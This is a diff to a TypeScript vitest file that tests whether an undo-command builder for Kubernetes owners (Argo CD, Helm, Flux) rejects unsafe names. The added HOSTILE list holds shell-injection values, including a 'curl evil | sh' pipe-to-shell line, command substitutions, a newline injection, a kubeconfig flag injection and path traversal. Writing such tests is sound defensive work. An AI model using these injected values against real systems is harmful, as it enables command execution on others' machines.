@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import type { OwnerKind, OwnerUndo } from './owner.ts'
+import { type OwnerKind, type OwnerUndo, ownerOf } from './owner.ts'
 import { ownerCommand } from './owner-command.ts'
 
 test.each<[OwnerKind, string, OwnerUndo, string | null]>([
@@ -18,4 +18,35 @@ test.each<[OwnerKind, string, OwnerUndo, string | null]>([
 ])('what makes an undo last under %s %s, %s', (kind, name, undo, expected) => {
   const command = ownerCommand({ kind, name, undo })
   expect(command && `${command.does}: ${command.command}`).toBe(expected)
+})
+
+const HOSTILE = [
+  'x; curl evil | sh #',
+  'x$(id)',
+  'x`id`',
+  "x' y",
+  'x y',
+  'x\nid',
+  '--kubeconfig=/tmp/evil',
+  '../etc',
+  'a/b/c',
+  'Ümlaut',
+  '',
+]
+test.each(HOSTILE)('a name that a shell would take for more than a name makes no command: %j', (written) => {
+  const tracked = ownerOf({ labels: {}, annotations: { 'argocd.argoproj.io/tracking-id': `${written}:apps/Deployment:shop/checkout` } })
+  const released = ownerOf({
+    labels: {},
+    annotations: { 'meta.helm.sh/release-name': written, 'meta.helm.sh/release-namespace': 'shop' },
+  })
+  const elsewhere = ownerOf({
+    labels: {},
+    annotations: { 'meta.helm.sh/release-name': 'shop', 'meta.helm.sh/release-namespace': written },
+  })
+  const kustomized = ownerOf({
+    labels: { 'kustomize.toolkit.fluxcd.io/name': written, 'kustomize.toolkit.fluxcd.io/namespace': 'flux-system' },
+    annotations: {},
+  })
+  const found = [tracked, released, elsewhere, kustomized].map((owner) => owner && ownerCommand(owner))
+  expect(found).toEqual([null, null, null, null])
 })
